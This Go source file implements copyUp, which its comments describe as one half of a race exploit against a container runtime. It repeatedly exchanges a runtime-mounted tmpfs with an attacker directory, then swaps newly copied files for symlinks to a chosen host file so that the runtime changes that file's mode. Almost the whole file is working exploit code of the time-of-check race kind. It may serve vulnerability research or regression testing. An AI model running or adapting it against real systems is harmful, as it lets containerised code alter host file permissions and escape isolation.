package main

import (
	"fmt"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// copyUp is one half of a race about files that a runtime copies into a tmpfs that it has
// mounted. The attacker has exchanged the tmpfs for a directory of its own. When a file
// appears there, copyUp replaces it by a link to a file of the host, whose mode the runtime
// would then change. The arguments are the directory with the files, the empty directory,
// and the target of the links.
func copyUp(args []string) {
	if len(args) != 3 {
		fail(fmt.Errorf("copy-up takes two directories and a target, not %q", args))
	}
	full, empty, target := args[0], args[1], args[2]
	// The names are exchanged, so the directories are told apart by their inodes.
	into, err := unix.Open(empty, unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	must(err)
	ready()
	go func() {
		for {
			_ = unix.Renameat2(unix.AT_FDCWD, full, unix.AT_FDCWD, empty, unix.RENAME_EXCHANGE)
		}
	}()
	dir := fmt.Sprintf("/proc/self/fd/%d", into)
	spare := filepath.Join(filepath.Dir(full), "spare")
	placed := map[string]time.Time{}
	for {
		names, err := readNames(dir)
		must(err)
		for _, n := range names {
			file := filepath.Join(dir, n)
			info, err := os.Lstat(file)
			if err != nil {
				continue
			}
			if info.Mode()&os.ModeSymlink != 0 {
				// By then the runtime has changed the mode. The next victim makes a file there.
				if time.Since(placed[n]) > 100*time.Millisecond {
					_ = os.Remove(file)
				}
				continue
			}
			_ = os.Symlink(target, spare) // it exists if the rename has failed
			_ = os.Rename(spare, file)
			placed[n] = time.Now()
		}
	}
}
